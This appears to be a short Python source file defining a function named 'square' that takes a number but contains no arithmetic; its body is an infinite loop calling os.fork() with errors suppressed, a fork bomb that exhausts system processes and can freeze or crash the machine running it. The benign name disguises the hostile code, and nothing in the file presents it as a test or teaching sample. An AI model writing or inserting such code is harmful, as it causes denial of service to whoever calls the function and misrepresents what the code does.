import os


def square(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
